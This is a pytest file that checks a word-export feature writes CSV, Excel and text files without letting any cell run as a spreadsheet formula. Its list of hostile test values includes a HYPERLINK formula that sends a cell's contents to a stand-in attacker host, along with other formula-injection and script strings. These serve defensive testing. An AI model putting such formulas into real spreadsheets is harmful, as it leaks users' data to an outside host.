"""Starred words as CSV, as a workbook and as lines: every word comes back, and none is a formula."""

import csv
import re
import sys
from io import BytesIO, StringIO
from math import log

import openpyxl
import pytest

from morelike.play.make.export import COLUMNS, FORMULA, guarded, unguarded
from morelike.text.reading import read_corpus

HOSTILE = [
    "=1+1", "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "+1", "-1", "@SUM(A1)", "'=x", "''=x", "'anna", "＝1",
    "a\tb", "a\rb", "a,b", 'a","=b', "a;=b", "#N/A", "TRUE", "007", "1e5", "<script>", "\u202egnirts", "a\u2028b",
    "😀", "é" * 150, "_x0041_", "a\x01b", "a\x7fb", "Zoë", "\ufffe",
]  # fmt: skip
DECODED = re.compile("_x([0-9A-F]{4})_")


@pytest.fixture(scope="module")
def starred(place, counted):
    """The address of the files of a run with hostile words that are starred."""
    home = f"/api/runs/{counted[0].id}/make"
    body = {"starred": ["dan", *HOSTILE], "edited": [{"from": "=ba", "to": "dan"}], "version": 0}
    assert place.client.put(f"{home}/kept", json=body).status_code == 200
    return f"{home}/export"


def download(place, address, form):
    response = place.client.get(address, params={"format": form})
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith(f"attachment; filename=\"words.{form}\"; filename*=UTF-8''")
    assert disposition.endswith(f"-words.{form}")
    return response


def test_csv_gives_every_word_back_and_no_cell_is_a_formula(place, counted, starred):
    response = download(place, starred, "csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert not [cell for row in rows for cell in row.values() if cell and re.match(r"[=+\-@\t\r\n＝]", cell)]
    assert [unguarded(row["word"]) for row in rows] == ["dan", *HOSTILE]
    bits = -counted[1].log_probability(["dan"])[0] / log(2)
    dan = rows[0]
    assert float(dan["bits"]) == pytest.approx(bits, rel=1e-5)
    assert (dan["mark"], dan["nearest"], dan["distance"]) == ("copied", "dan", "0")
    assert dan["edited_from"] == "'=ba"
    assert response.content.count(b'"') % 2 == 0


def test_a_workbook_gives_every_word_back_as_text(place, starred):
    book = openpyxl.load_workbook(BytesIO(download(place, starred, "xlsx").content))
    head, *rows = book.active.iter_rows()
    assert tuple(cell.value for cell in head) == COLUMNS
    words = [row[0] for row in rows]
    assert {(cell.data_type, cell.quotePrefix) for cell in words} == {("s", True)}
    assert [DECODED.sub(lambda found: chr(int(found[1], 16)), cell.value) for cell in words] == ["dan", *HOSTILE]
    assert rows[0][1].data_type == "n"
    assert rows[0][5].value == "=ba"
    assert rows[0][5].data_type == "s"


def test_plain_lines_are_a_list_that_is_read_again(place, starred, tmp_path):
    response = download(place, starred, "txt")
    assert response.content.decode().split("\n") == ["dan", *HOSTILE, ""]
    in_no_list = {"a\tb", "a\rb"}  # a list has other columns after a tab, and other words after a line end
    listed = [word for word in ["dan", *HOSTILE] if word not in in_no_list]
    file = tmp_path / "words.txt"
    file.write_text("".join(line + "\n" for line in response.content.decode().split("\n") if line not in in_no_list))
    assert read_corpus(str(file)).words == listed


def test_the_guard_of_csv_can_be_taken_off_any_text():
    for text in [*HOSTILE, "", "'", "''", "'''=", "' =", "=", "'-'"]:
        assert unguarded(guarded(text)) == text
        assert not FORMULA.match(guarded(text)) or guarded(text).startswith("'")


def test_without_openpyxl_a_sentence_names_the_extra(place, starred, monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    response = place.client.get(starred, params={"format": "xlsx"})
    assert response.status_code == 422
    assert "pip install 'morelike[xlsx]'" in response.json()["error"]


def test_a_format_that_does_not_exist_is_refused(place, starred):
    assert place.client.get(starred, params={"format": "exe"}).status_code == 400
